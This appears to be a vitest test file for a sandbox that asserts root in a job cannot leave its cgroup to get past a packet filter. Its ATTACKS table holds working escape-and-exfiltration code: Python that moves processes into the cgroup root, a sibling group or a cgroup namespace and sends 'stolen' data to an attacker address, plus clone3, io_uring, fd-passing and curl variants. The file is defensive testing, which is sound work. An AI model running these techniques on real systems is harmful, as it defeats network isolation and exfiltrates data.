/** Root in the job leaves its control group, so that the packet filter would not know its packets. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { buildProgram } from "../../support/build-program.ts";
import { ATTACKER } from "../../support/internet/addresses.ts";
import {
  type AttackScene,
  createAttackScene,
  findObstacle,
  toPython,
} from "./support/attack-scene.ts";
import { toPolicy } from "./support/guarded-pod.ts";
import { fireAll, type Volley } from "./support/volley.ts";

const obstacle = findObstacle();
const { ipv4, ipv6 } = ATTACKER;
const TREE = "$(findmnt -nt cgroup2 -o TARGET | head -1)";

/** All the ways to send, after `arrive` has brought this process elsewhere. */
const toPolyglot = (arrive: string): string =>
  toPython(`
import array, os, socket, subprocess, threading
TREE = subprocess.run(["findmnt", "-nt", "cgroup2", "-o", "TARGET"], capture_output=True, text=True).stdout.split()[0]
OWN = TREE + open("/proc/self/cgroup").read().split("0::")[1].strip()
def move(path): open(path + "/cgroup.procs", "w").write("0")
def attempt(name, deed):
    try: print(name, deed() or "sent", flush=True)
    except OSError as error: print(name, "refused", flush=True)
def tcp(family, ip):
    s = socket.socket(family); s.settimeout(2); s.connect((ip, 80)); s.send(b"GET /stolen HTTP/1.0\\r\\n\\r\\n"); return s.recv(9)
def udp(family, ip): socket.socket(family, socket.SOCK_DGRAM).sendto(b"stolen", (ip, 99))
def dns(): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("1.1.1.1", 53))
def fast():
    s = socket.socket(); s.settimeout(2); s.sendto(b"stolen", 0x20000000, ("${ipv4}", 80))
def send_all():
    attempt("tcp4", lambda: tcp(socket.AF_INET, "${ipv4}"))
    attempt("tcp6", lambda: tcp(socket.AF_INET6, "${ipv6}"))
    attempt("mapped", lambda: tcp(socket.AF_INET6, "::ffff:${ipv4}"))
    attempt("udp4", lambda: udp(socket.AF_INET, "${ipv4}"))
    attempt("udp6", lambda: udp(socket.AF_INET6, "${ipv6}"))
    attempt("dns", dns)
    attempt("fast open", fast)
${arrive}`);

const ATTACKS = {
  "by moving itself to the root": toPolyglot("move(TREE); send_all()"),
  "by moving itself to a sibling": toPolyglot(
    `os.mkdir(TREE + "/aside-%d" % os.getpid()); move(TREE + "/aside-%d" % os.getpid()); send_all(); move(OWN); os.rmdir(TREE + "/aside-%d" % os.getpid())`,
  ),
  "by a child that moves its parent": toPolyglot(
    `pid = os.getpid()
child = os.fork()
if child == 0:
    open(TREE + "/cgroup.procs", "w").write(str(pid)); os._exit(0)
os.waitpid(child, 0); send_all()`,
  ),
  "by a child in the root, orphaned": toPolyglot(
    `if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        move(TREE); send_all()
    else: os.wait()
    os._exit(0)
os.wait()`,
  ),
  "with sockets from before": toPolyglot(
    `sockets = [socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)]
move(TREE)
def later():
    sockets[0].settimeout(2); sockets[0].connect(("${ipv4}", 80))
attempt("tcp", later); attempt("udp", lambda: sockets[1].sendto(b"stolen", ("${ipv4}", 99)))`,
  ),
  "with a socket that comes from outside": toPolyglot(
    `ours, theirs = socket.socketpair()
if os.fork() == 0:
    move(TREE)
    try: s = socket.socket(); socket.send_fds(theirs, [b"x"], [s.fileno()])
    except OSError: theirs.send(b"refused")
    os._exit(0)
data, fds, *_ = socket.recv_fds(ours, 10, 1)
print("tcp4", "refused" if not fds else "")
for fd in fds:
    s = socket.socket(fileno=fd)
    attempt("passed", lambda: s.connect(("${ipv4}", 80)))`,
  ),
  "by a subgroup of its own": toPolyglot(
    `os.mkdir(OWN + "/inner-%d" % os.getpid()); move(OWN + "/inner-%d" % os.getpid()); send_all()`,
  ),
  "by clone3 into the root": `${buildProgram("in-cgroup")} clone ${TREE} /usr/bin/curl -sS -m 2 http://${ipv4}/stolen`,
  "by clone3 into the root, over UDP": `${buildProgram("in-cgroup")} clone ${TREE} ${buildProgram("send-udp")} sendto ${ipv4} 99`,
  "by io_uring in the root": `${buildProgram("in-cgroup")} enter ${TREE} ${buildProgram("io-uring")} connect ${ipv4} 80`,
  "by io_uring's own socket in the root": `${buildProgram("in-cgroup")} enter ${TREE} ${buildProgram("io-uring")} send-zc ${ipv4} 99`,
  "by a cgroup namespace": `unshare --cgroup --mount sh -c 'mkdir -p /tmp/cg-$$; mount -t cgroup2 none /tmp/cg-$$ && echo $$ >/tmp/cg-$$/cgroup.procs; curl -sS -m 2 http://${ipv4}/stolen'`,
} as const;

describe.skipIf(obstacle !== "")(`the control group is left${obstacle}`, () => {
  let scene: AttackScene;
  let volley: Volley;
  beforeAll(async () => {
    scene = await createAttackScene();
    volley = await fireAll(scene.pod, ATTACKS, { policy: toPolicy({ allow: ["github.test"] }) });
  });
  afterAll(async () => scene[Symbol.asyncDispose]());

  test("and nothing leaves the machine", async () => {
    expect(volley.run.escaped).toEqual([]);
    expect(await scene.internet.visits()).toEqual([]);
  });

  test.each(Object.keys(ATTACKS))("%s", (name) => {
    const { stdout, stderr, status } = volley.shot(name);

    expect(`${stdout}${stderr}`).toMatch(/refused|Failed to connect|Couldn't connect|"ok":false/);
    // A question for a name goes to the gate, which answers it or not.
    expect(stdout.replace("dns sent", "")).not.toMatch(/sent|attacker|"ok":true/);
    expect(status).not.toBeNaN();
  });

  test("and the report tells who made a socket outside, and that it was refused", () => {
    const { privilegedOperations, processes } = volley.run.report;
    const outside = privilegedOperations.filter(
      ({ operation }) => operation === "socket-outside-cgroup",
    );
    const programs = new Set(
      outside.map(({ processId }) => processes.find(({ id }) => id === processId)?.executable),
    );

    expect(outside.length).toBeGreaterThan(10);
    expect(outside.filter(({ succeeded }) => succeeded)).toEqual([]);
    expect([...programs].map((path) => path?.replace(/^.*\//, ""))).toEqual(
      expect.arrayContaining(["curl", "send-udp", "io-uring"]),
    );
  });
});
